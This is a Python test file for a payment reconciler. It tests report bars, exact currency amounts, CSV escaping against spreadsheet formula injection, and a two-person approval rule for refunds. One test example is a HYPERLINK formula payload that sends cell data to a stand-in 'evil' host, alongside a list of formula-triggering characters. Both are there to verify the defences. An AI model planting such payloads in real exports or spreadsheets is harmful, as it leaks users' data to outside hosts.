"""Parts of reports: shares of a picture, exact amounts, cells that nothing executes. And who needs a second person."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from services.reconciler.domain.approval import SecondPersonRule
from services.reconciler.domain.cases import COMMANDS, Action
from services.reconciler.domain.reporting import WHOLE, Place, Totals, as_major, bars
from services.reconciler.reporting.csv_report import _written, escaped

AMOUNTS = st.integers(-(10**15), 10**15)


def totals(places: dict[str, int], currency: str = "EUR") -> Totals:
    stored = {f"{name}_minor": amount for name, amount in places.items()}
    return Totals.from_json({"gateway": "g", "currency": currency, **stored})


@given(st.lists(st.fixed_dictionaries({place.value: AMOUNTS for place in Place}), min_size=1, max_size=5))
def test_a_bar_is_whole_and_shows_whatever_is_there(stored: list[dict[str, int]]) -> None:
    drawn = bars([totals(each) for each in stored])
    sums = {place: sum(abs(each[place]) for each in stored) for place in Place}
    if not any(sums.values()):
        assert drawn == ()
        return
    (bar,) = drawn
    assert {segment.place: segment.amount_minor for segment in bar.segments} == {
        place: amount for place, amount in sums.items() if amount
    }
    assert bar.total_minor == sum(sums.values())
    assert all(segment.width > 0 for segment in bar.segments)
    ends = [segment.start + segment.width for segment in bar.segments]
    assert [segment.start for segment in bar.segments] == [0, *ends[:-1]]
    assert ends[-1] == WHOLE


def test_a_surplus_does_not_hide_what_is_missing_elsewhere() -> None:
    (bar,) = bars([totals({"unexplained": 500}), totals({"unexplained": -500})])
    assert bar.total_minor == 1_000
    payout_off = Totals.from_json({"currency": "EUR", "unexplained_minor": 1, "payouts_unexplained_minor": -1})
    assert bars([payout_off])[0].total_minor == 2


def test_currencies_are_not_mixed_and_come_in_order() -> None:
    drawn = bars(totals({"matched": 1}, currency) for currency in ("KWD", "EUR"))
    assert [bar.currency for bar in drawn] == ["EUR", "KWD"]


@pytest.mark.parametrize("wrong", [{}, {"matched_minor": "12"}, {"matched_minor": True}, {"matched_minor": 1.5}])
def test_what_is_no_whole_number_counts_as_nothing(wrong: dict[str, object]) -> None:
    assert Totals.from_json(wrong | {"counts": ["x"]}).places[Place.MATCHED] == 0


@pytest.mark.parametrize(
    ("minor", "currency", "major"),
    [(-1_050, "EUR", "-10.50"), (5, "KWD", "0.005"), (-350_000, "JPY", "-350000"), (0, "EUR", "0.00"), (7, None, "7")],
)
def test_amounts_are_exact_with_all_their_digits(minor: int, currency: str | None, major: str) -> None:
    assert f"{as_major(minor, currency):f}" == major
    assert isinstance(as_major(minor, currency), Decimal)


DANGEROUS = "=+-@|%＝＋－＠"


@given(st.sampled_from(DANGEROUS), st.text(alphabet=" \t\r\n\x00\x0b\u00a0\u2028\u200b\ufeff", max_size=4), st.text())
def test_no_text_begins_a_formula_whatever_stands_before_its_sign(sign: str, before: str, rest: str) -> None:
    """RC15: spreadsheets skip blanks and what cannot be seen."""
    cell = escaped(before + sign + rest)
    assert cell.startswith("'")
    assert not set(cell) & set("\t\r\n\x00\x0b\u2028")


@given(st.text(alphabet="=+-@ \t;,|\"'ax1\u200b\u00a0", max_size=12))
@example('x;"=HYPERLINK("http://evil/?"&A1;"k")')
@example('x; "" =1+1')
def test_no_text_is_a_formula_where_spreadsheets_split_at_other_signs(text: str) -> None:
    """RC15: with a decimal comma they split at semicolons, and quotes within a cell count anew."""
    line = _written([{"record": "case", "reference": text, "detail": text}]).decode()
    for separator in ";,|\t":
        for lines in (csv.reader(io.StringIO(line), delimiter=separator), [line.split(separator)]):
            for cell in next(iter(lines)):
                assert cell.lstrip(' \t"\u200b\u00a0')[:1] not in {*DANGEROUS} - {separator, "|"}


@given(st.text())
def test_a_cell_is_one_line_and_comes_back_as_it_was_written(text: str) -> None:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerow([escaped(text.replace("\ud800", "")), "x"])
    (row,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""), strict=True)
    assert row == [escaped(text), "x"]


@pytest.mark.parametrize("harmless", ["", "pi_1", 'Ünïcode, "quoted"', "a=b", "1-2", "a; b, c", "الرياض", "'already"])
def test_harmless_text_stays_as_it_is(harmless: str) -> None:
    assert escaped(harmless) == harmless


RULE = SecondPersonRule.parse("5000, JPY=800000")


@pytest.mark.parametrize(
    ("currency", "amount", "needed"),
    [("EUR", 5_000, False), ("EUR", 5_001, True), ("JPY", 800_000, False), ("JPY", 800_001, True), ("EUR", None, True)],
)
@pytest.mark.parametrize("action", [Action.REFUND, Action.CANCEL_ORDER])
def test_above_the_currencys_limit_money_takes_two_people(
    action: Action, currency: str, amount: int | None, needed: bool
) -> None:
    """RC17."""
    assert RULE.is_needed(action, currency=currency, amount_minor=amount) is needed
    assert RULE.is_needed(action, currency=None, amount_minor=1)


def test_by_default_each_refund_takes_two_people_and_what_moves_no_money_one() -> None:
    rule = SecondPersonRule.parse("0")
    assert rule.is_needed(Action.REFUND, currency="EUR", amount_minor=1)
    for action in {*Action} - {Action.REFUND, Action.CANCEL_ORDER}:
        assert not rule.is_needed(action, currency=None, amount_minor=None)
    assert {Action.REFUND, Action.CANCEL_ORDER} < COMMANDS


@pytest.mark.parametrize("wrong", ["-1", "1.5", "EUR", "EUR=x", "XXX=1", "=5", "1e3"])
def test_a_limit_that_is_not_understood_is_refused(wrong: str) -> None:
    with pytest.raises(ValueError, match="minor units"):
        SecondPersonRule.parse(wrong)
